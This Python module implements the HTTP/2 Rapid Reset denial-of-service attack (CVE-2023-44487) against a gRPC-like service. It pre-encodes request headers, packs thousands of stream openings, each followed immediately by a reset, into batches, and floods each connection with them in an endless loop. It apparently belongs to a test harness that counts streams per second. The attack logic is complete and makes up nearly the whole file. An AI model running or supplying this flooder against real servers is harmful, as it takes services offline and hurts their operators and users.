"""Opens streams and resets them at once, as many as a core can: CVE-2023-44487."""

import wire

WAYS = ("plain", "tls", "unix", "crowd")
BRIEF_WAYS = ("plain", "tls", "unix")
# What it does at least in a second, where nobody cuts it off.
FLOOR = {"streams": 2000}
BATCH = 1000


def attack(target):
    target.again_and_again(lambda connection: flood(target, connection))


def resets(connection, count):
    """Bytes of so many streams that are opened and reset."""
    heads = []
    for method, flags in ((wire.LIST_DISPLAYS, wire.END_HEADERS | wire.END_STREAM),
                          (wire.STREAM_DISPLAY, wire.END_HEADERS)):
        block = connection.encoder.encode(
            wire.request_headers(method, connection.target.scheme))
        heads.append((wire.frame_head(wire.HEADERS, flags, 0, len(block))[:5], block))
    end = wire.rst_stream(0)
    kind, error = end[:5], end[9:]
    first = connection.next_stream
    connection.next_stream += 2 * count
    out = []
    for stream in range(first, connection.next_stream, 2):
        head, block = heads[stream >> 1 & 1]
        number = stream.to_bytes(4, "big")
        out += (head, number, block, kind, number, error)
    return b"".join(out)


def flood(target, connection):
    # The first two spell their headers out, and the tables remember.
    for _ in range(2):
        connection.queue(single(connection))
    while True:
        connection.send(resets(connection, BATCH))
        connection.count("streams", BATCH)


def single(connection):
    method = (wire.LIST_DISPLAYS, wire.STREAM_DISPLAY)[connection.next_stream >> 1 & 1]
    stream = connection.open_call(method)
    return wire.rst_stream(stream)
